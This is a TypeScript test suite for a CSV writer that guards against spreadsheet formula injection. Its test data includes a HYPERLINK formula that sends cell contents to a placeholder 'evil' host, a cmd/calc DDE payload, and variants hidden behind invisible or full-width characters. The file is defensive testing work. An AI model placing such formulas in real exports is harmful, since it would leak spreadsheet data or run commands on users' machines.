import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, writeCsv } from '../../src/shared/csv/write';

/** A strict RFC 4180 reader, to check what a spreadsheet would read back. */
function readRfc4180(text: string, sep: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === sep) {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else if (ch === '"' || ch === '\r' || ch === '\n') throw new Error(`unquoted ${JSON.stringify(ch)} at ${i}`);
    else cell += ch;
  }
  if (cell !== '' || row.length > 0) throw new Error('last record not ended by CRLF');
  return rows;
}

describe('CSV writer', () => {
  it('neutralises every cell a spreadsheet would run as a formula (OWASP: = + - @ TAB CR)', () => {
    const attack = '=HYPERLINK("http://evil/?"&A1,"x")';
    expect(csvCell(attack)).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    expect(csvCell('+1+cmd|/C calc!A0')).toBe(`'+1+cmd|/C calc!A0`);
    expect(csvCell('-2+3')).toBe(`'-2+3`);
    expect(csvCell('@SUM(A1:A9)')).toBe(`'@SUM(A1:A9)`);
    expect(csvCell('\t=1+1')).toBe(`'\t=1+1`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    // Numbers stay numbers; harmless text is untouched.
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('Çizim Seti')).toBe('Çizim Seti');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(null)).toBe('');
  });

  it('neutralises a formula behind a leading newline, space, NBSP, zero-width character or BOM, and the full-width signs (issue 47, item 8)', () => {
    for (const lead of ['\n', ' ', '  ', '\u00a0', '\u200b', '\u200d', '\u2060', '\ufeff', '\u3000', ' \u200b\n'])
      for (const sign of ['=', '+', '-', '@']) expect(csvCell(`${lead}${sign}HYPERLINK("http://evil/")`).replace(/^"/, '')).toMatch(/^'/);
    for (const sign of ['\uff1d', '\uff0b', '\uff0d', '\uff20']) {
      expect(csvCell(`${sign}1+1`)).toBe(`'${sign}1+1`);
      expect(csvCell(`\u200b${sign}1+1`)).toBe(`'\u200b${sign}1+1`);
    }
    // Harmless text behind a space stays as it is.
    expect(csvCell(' Çizim Seti')).toBe(' Çizim Seti');
    expect(csvCell('\u00a0100 TL')).toBe('\u00a0100 TL');
  });

  it('quotes per RFC 4180: separator, quotes, CR and LF; records end with CRLF; UTF-8 BOM first', () => {
    expect(
      writeCsv(
        ['a', 'b'],
        [
          ['x;y', 'he said "hi"'],
          ['line1\nline2', 3],
        ],
      ),
    ).toBe('\uFEFFa;b\r\n"x;y";"he said ""hi"""\r\n"line1\nline2";3\r\n');
    expect(writeCsv(['a'], [['x,y']], { separator: ',', bom: false })).toBe('a\r\n"x,y"\r\n');
  });

  it('any text reads back as written (or with the leading quote), and never as a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.oneof(fc.string(), fc.constantFrom('=1+1', '-1', '+x', '@a', '\tx', '\rx', ';', '"', ' =1', '\n@a'))), { minLength: 1 }),
        (rows) => {
          const width = Math.max(1, ...rows.map((r) => r.length));
          const padded = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ''));
          const header = Array.from({ length: width }, (_, i) => `c${i}`);
          const back = readRfc4180(writeCsv(header, padded, { bom: false }), ';');
          expect(back.length).toBe(padded.length + 1);
          back.slice(1).forEach((r, y) =>
            r.forEach((cell, x) => {
              // What a spreadsheet reads as a formula: a sign, after the spaces and newlines it
              // skips (issue 47, item 8), or a leading tab or CR.
              const formula = /^[\t\r]|^\s*[=+\-@]/;
              expect(cell).not.toMatch(formula);
              const want = padded[y]![x]!;
              expect(cell).toBe(formula.test(want) ? `'${want}` : want);
            }),
          );
        },
      ),
    );
  });
});
